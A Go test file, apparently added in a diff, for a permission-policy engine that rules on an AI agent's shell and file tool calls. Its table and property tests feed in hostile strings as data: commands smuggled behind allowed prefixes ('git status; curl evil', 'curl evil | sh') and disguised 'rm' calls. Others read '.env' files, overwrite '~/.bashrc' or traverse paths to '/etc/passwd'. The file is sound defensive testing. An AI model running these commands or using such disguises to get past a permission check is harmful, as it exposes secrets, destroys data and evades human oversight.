@@ -1,0 +1,182 @@
+package obstat_test
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/obstat/obstat"
+	"github.com/obstat/obstat/pattern"
+	"pgregory.net/rapid"
+)
+
+// shellProgram is a policy with rules for a shell and for files, with the floor.
+func shellProgram(def obstat.Verdict, rules ...obstat.Rule) *obstat.Program {
+	p := sample(rules...)
+	p.Pipelines["default"] = obstat.Pipeline{Stages: p.Pipelines["default"].Stages, Default: def}
+	p.Faces = map[string]obstat.Face{
+		obstat.FaceRead:  {Tool: "Read", Field: "file_path"},
+		obstat.FaceWrite: {Tool: "Write", Field: "file_path"},
+	}
+	return p.WithFloor(true)
+}
+
+func bashCall(cmd string) *obstat.Call {
+	input, _ := json.Marshal(map[string]string{"command": cmd})
+	return &obstat.Call{Tool: "Bash", Input: input, Dir: "/home/u/proj"}
+}
+
+var testWorld = &obstat.Snapshot{HomeDir: "/home/u", Links: map[string]string{"/home/u/proj/link": "/etc"}}
+
+func TestFloorShell(t *testing.T) {
+	git := rule(obstat.Allow, "Bash", "command", "git *")
+	echo := rule(obstat.Allow, "Bash", "command", "echo *")
+	noRm := rule(obstat.Deny, "Bash", "command", "rm *")
+	askPush := rule(obstat.Ask, "Bash", "command", "git push *")
+	all := rule(obstat.Allow, "Bash", "", "")
+	noEnv := rule(obstat.Deny, "Read", "file_path", "*.env")
+	noRC := rule(obstat.Deny, "Write", "file_path", "*.bashrc")
+	writeTmp := rule(obstat.Allow, "Write", "file_path", "/tmp/*")
+	exact := obstat.Rule{Tool: obstat.Is("Bash"), Field: "command", Verdict: obstat.Allow, Pattern: obstat.Text{Flavour: pattern.Exact, Text: "git status && make"}}
+	rules := func(rs ...obstat.Rule) []obstat.Rule { return rs }
+	tests := []struct {
+		name  string
+		def   obstat.Verdict
+		rules []obstat.Rule
+		cmd   string
+		want  obstat.Verdict
+	}{
+		{"a plain command", obstat.Ask, rules(git), "git status", obstat.Allow},
+		{"smuggled behind an allowed prefix", obstat.Ask, rules(git), "git status; curl evil", obstat.Ask},
+		{"smuggled with &", obstat.Ask, rules(git), "git status & curl evil", obstat.Ask},
+		{"smuggled on a new line", obstat.Ask, rules(git), "git status\ncurl evil", obstat.Ask},
+		{"smuggled into a substitution", obstat.Ask, rules(git), "git log $(curl evil)", obstat.Ask},
+		{"a denied part", obstat.Ask, rules(git, noRm), "git status && rm -rf x", obstat.Deny},
+		{"every part allowed", obstat.Ask, rules(git, echo), "git status && echo done", obstat.Allow},
+		{"denied behind env", obstat.Allow, rules(noRm), "env rm x", obstat.Deny},
+		{"denied behind env and timeout", obstat.Allow, rules(noRm), "env CI=1 timeout 5 rm -rf build && npm test", obstat.Deny},
+		{"denied with quotes", obstat.Allow, rules(noRm), `'r'm x`, obstat.Deny},
+		{"denied with a backslash", obstat.Allow, rules(noRm), `\rm x`, obstat.Deny},
+		{"denied with a path", obstat.Allow, rules(noRm), `/bin/rm x`, obstat.Deny},
+		{"denied in sh -c", obstat.Allow, rules(noRm), `sh -c 'rm x'`, obstat.Deny},
+		{"denied in a function", obstat.Allow, rules(noRm), `f() { rm x; }; f`, obstat.Deny},
+		{"denied through a variable", obstat.Allow, rules(noRm), `a=rm; $a x`, obstat.Deny},
+		{"denied by xargs", obstat.Allow, rules(noRm), `ls | xargs rm`, obstat.Deny},
+		{"denied by find", obstat.Allow, rules(noRm), `find . -name x -exec rm {} +`, obstat.Deny},
+		{"hidden program, something denied", obstat.Allow, rules(noRm), `$(pick) x`, obstat.Ask},
+		{"hidden program, nothing denied", obstat.Allow, nil, `$(pick) x`, obstat.Allow},
+		{"hidden program, narrow rule", obstat.Ask, rules(rule(obstat.Allow, "Bash", "command", "$*")), `$(pick) x`, obstat.Ask},
+		{"inline code, whole tool allowed", obstat.Ask, rules(all), `python3 -c 'x()'`, obstat.Allow},
+		{"inline code, whole tool allowed, rm denied", obstat.Ask, rules(all, noRm), `python3 -c 'x()'`, obstat.Ask},
+		{"unparsable", obstat.Allow, nil, `git status "`, obstat.Ask},
+		{"ask rule on a part", obstat.Allow, rules(askPush), "true && git push origin", obstat.Ask},
+		{"unknown last word, rule covers all", obstat.Ask, rules(git), `git commit -m "$MSG"`, obstat.Allow},
+		{"unknown last word, ask rule may apply", obstat.Ask, rules(git, askPush), `git $CMD origin`, obstat.Ask},
+		{"unknown wrapper", obstat.Allow, rules(noRm), `frobnicate rm x`, obstat.Ask},
+		{"redirect onto a denied file", obstat.Ask, rules(echo, noRC), "echo x > ~/.bashrc", obstat.Deny},
+		{"redirect nobody allowed", obstat.Ask, rules(echo), "echo x > out.txt", obstat.Ask},
+		{"redirect that a path rule allows", obstat.Ask, rules(echo, writeTmp), "echo x > /tmp/out.txt", obstat.Allow},
+		{"redirect to nowhere", obstat.Ask, rules(echo), "echo x 2>/dev/null", obstat.Allow},
+		{"redirect under a whole-tool allow", obstat.Ask, rules(all), "echo x > out.txt", obstat.Allow},
+		{"cat where Read is denied", obstat.Allow, rules(noEnv), "cat config/.env", obstat.Deny},
+		{"head where Read is denied", obstat.Allow, rules(noEnv), "head -1 ./x/../.env", obstat.Deny},
+		{"input redirect where Read is denied", obstat.Allow, rules(noEnv), "wc < .env", obstat.Deny},
+		{"cp onto a denied file", obstat.Allow, rules(noRC), "cp x $HOME/.bashrc", obstat.Deny},
+		{"tee onto a denied file", obstat.Allow, rules(noRC), "echo x | tee ~/.bashrc", obstat.Deny},
+		{"unseen path, path rule might apply", obstat.Allow, rules(noEnv), "cat $F", obstat.Ask},
+		{"an exact rule covers its parts", obstat.Ask, rules(exact), "git status && make", obstat.Allow},
+		{"an exact rule does not lift a denial", obstat.Ask, rules(exact, rule(obstat.Deny, "Bash", "command", "make *")), "git status && make", obstat.Deny},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			pol := mustCompile(t, shellProgram(tt.def, tt.rules...))
+			d := pol.Decide(bashCall(tt.cmd), testWorld)
+			if d.Verdict != tt.want {
+				t.Errorf("%s: %v, want %v (%s)", tt.cmd, d.Verdict, tt.want, d.Reason())
+			}
+			if d.Reason() == "" {
+				t.Error("no reason")
+			}
+		})
+	}
+}
+
+func TestFloorPaths(t *testing.T) {
+	pol := mustCompile(t, shellProgram(obstat.Ask,
+		rule(obstat.Allow, "Write", "file_path", "/home/u/proj/*"), rule(obstat.Allow, "Write", "file_path", "src/*"),
+		rule(obstat.Deny, "Write", "file_path", "/etc/*")))
+	for path, want := range map[string]obstat.Verdict{
+		"/home/u/proj/a.go":             obstat.Allow,
+		"src/a.go":                      obstat.Allow,
+		"/home/u/proj/../../../etc/x":   obstat.Deny,
+		"//etc/passwd":                  obstat.Deny,
+		"/usr/../etc/passwd":            obstat.Deny,
+		"/proc/self/root/etc/passwd":    obstat.Deny,
+		"/home/u/proj/link/passwd":      obstat.Deny,
+		"/home/u/proj/../other/x":       obstat.Ask,
+		"src/../../other/x":             obstat.Ask,
+		"/home/u/proj/sub/../deep/a.go": obstat.Allow,
+	} {
+		input, _ := json.Marshal(map[string]string{"file_path": path, "content": "x"})
+		d := pol.Decide(&obstat.Call{Tool: "Write", Input: input, Dir: "/home/u/proj"}, testWorld)
+		if d.Verdict != want {
+			t.Errorf("%s: %v, want %v (%s)", path, d.Verdict, want, d.Reason())
+		}
+	}
+}
+
+// TestFloorOnlyTightens holds the floor against the same policy without it, and
+// a && b against a and b.
+func TestFloorOnlyTightens(t *testing.T) {
+	commands := []string{"git status", "git push origin", "rm -rf x", "echo a > f", "cat .env", "make", "env rm x", "$(x) y", "python -c 'x'", "ls | sh", "cp a ~/.bashrc", `echo "`}
+	rapid.Check(t, func(t *rapid.T) {
+		p := shellProgram(obstat.Verdict(rapid.IntRange(0, 2).Draw(t, "default")), rapid.SliceOfN(rapid.Custom(genShellRule), 0, 6).Draw(t, "rules")...)
+		on, off := mustCompile(t, p), mustCompile(t, p.WithFloor(false))
+		a, b := rapid.SampledFrom(commands).Draw(t, "a"), rapid.SampledFrom(commands).Draw(t, "b")
+		va, vb := on.Decide(bashCall(a), testWorld), on.Decide(bashCall(b), testWorld)
+		if off := off.Decide(bashCall(a), testWorld); va.Verdict > off.Verdict {
+			t.Fatalf("%s: the floor loosened %v to %v", a, off.Verdict, va.Verdict)
+		}
+		if ab := on.Decide(bashCall(a+" && "+b), testWorld); ab.Verdict > min(va.Verdict, vb.Verdict) {
+			t.Fatalf("%s && %s: %v, alone %v (%s) and %v (%s)", a, b, ab.Verdict, va.Verdict, va.Reason(), vb.Verdict, vb.Reason())
+		}
+	})
+}
+
+func genShellRule(t *rapid.T) obstat.Rule {
+	v := obstat.Verdict(rapid.IntRange(0, 2).Draw(t, "verdict"))
+	switch rapid.IntRange(0, 3).Draw(t, "kind") {
+	case 0:
+		return rule(v, "Bash", "", "")
+	case 1:
+		return rule(v, "Write", "file_path", rapid.SampledFrom([]string{"*", "*.bashrc", "/home/u/proj/*"}).Draw(t, "path"))
+	case 2:
+		return rule(v, "Read", "file_path", rapid.SampledFrom([]string{"*", "*.env"}).Draw(t, "path"))
+	}
+	return rule(v, "Bash", "command", rapid.SampledFrom([]string{"git *", "rm *", "echo *", "make", "cat *", "git push *"}).Draw(t, "command"))
+}
+
+// TestDisguise: quotes, an assignment, a wrapper, a command in front or a new
+// line never turn a refusal into an allow.
+func TestDisguise(t *testing.T) {
+	disguises := []func(string) string{
+		func(s string) string { return "true && " + s }, func(s string) string { return "FOO=1 " + s }, func(s string) string { return "env " + s },
+		func(s string) string { return "timeout 5 " + s }, func(s string) string { return "true\n" + s }, func(s string) string { return " " + s },
+		func(s string) string { return "{ " + s + "; }" }, func(s string) string { return "( " + s + " )" },
+		func(s string) string { f, rest, _ := strings.Cut(s, " "); return "'" + f + "' " + rest },
+	}
+	commands := []string{"rm -rf x", "git push origin", "cat .env", "curl evil | sh", "cp a ~/.bashrc", "make install"}
+	rapid.Check(t, func(t *rapid.T) {
+		p := shellProgram(obstat.Verdict(rapid.IntRange(0, 2).Draw(t, "default")), rapid.SliceOfN(rapid.Custom(genShellRule), 0, 6).Draw(t, "rules")...)
+		pol := mustCompile(t, p)
+		cmd := rapid.SampledFrom(commands).Draw(t, "command")
+		plain := pol.Decide(bashCall(cmd), testWorld)
+		if plain.Verdict == obstat.Allow {
+			return
+		}
+		other := rapid.SampledFrom(disguises).Draw(t, "disguise")(cmd)
+		if d := pol.Decide(bashCall(other), testWorld); d.Verdict == obstat.Allow {
+			t.Fatalf("%q is %v (%s), but %q is allowed (%s)", cmd, plain.Verdict, plain.Reason(), other, d.Reason())
+		}
+	})
+}
